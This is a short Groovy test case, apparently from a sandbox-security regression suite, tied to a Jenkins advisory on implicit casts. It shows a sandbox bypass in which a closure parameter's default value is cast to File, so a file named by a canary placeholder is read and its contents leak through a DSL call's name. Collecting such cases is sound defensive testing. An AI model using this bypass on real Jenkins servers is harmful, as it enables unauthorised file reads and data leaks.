// class: coercion
// source: Jenkins SECURITY-2824 / CVE-2022-43401 (implicit casts not intercepted)
// expect: read
// The default value of a typed closure parameter is cast too.
def read = { File f = ['@CANARY_READ@'] -> f.collect { it }.join('|') }
def v = read()
vmwareSite("leak-${v}") { network 'VM Network' }
